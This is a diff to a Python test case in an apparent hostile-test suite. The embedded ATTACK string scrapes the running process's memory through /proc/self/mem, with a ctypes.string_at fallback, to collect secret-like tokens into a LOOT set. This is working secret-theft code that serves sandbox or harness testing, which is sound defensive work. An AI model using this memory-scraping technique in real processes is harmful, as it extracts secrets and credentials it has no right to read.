@@ -3,21 +3,32 @@
 from tests.hostile.case import Case
 
 ATTACK = r"""
-import gc, re, sys
+import ctypes, gc, re, sys
 
 LOOT = set()
 
 
+try:
+    MEMORY = open("/proc/self/mem", "rb", 0)
+except OSError:  # then it reads what no file lies below, which cannot end it
+    MEMORY = None
+
+
 def search():
-    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+    with open("/proc/self/maps") as maps:
         for line in maps:
             area, rights, *_, last = line.split()
             begin, end = (int(part, 16) for part in area.split("-"))
             if "r" not in rights or last.startswith("/usr") or "site-packages" in last:
                 continue
+            if not MEMORY and ("/" in last or last.startswith("[v")):
+                continue
             try:
-                memory.seek(begin)
-                data = memory.read(min(end - begin, 2**27))
+                if MEMORY:
+                    MEMORY.seek(begin)
+                    data = MEMORY.read(min(end - begin, 2**27))
+                else:
+                    data = ctypes.string_at(begin, min(end - begin, 2**27))
             except (OSError, ValueError, OverflowError, MemoryError):
                 continue
             LOOT.update(re.findall(rb"wall-of-the[-]court[\w-]*", data))
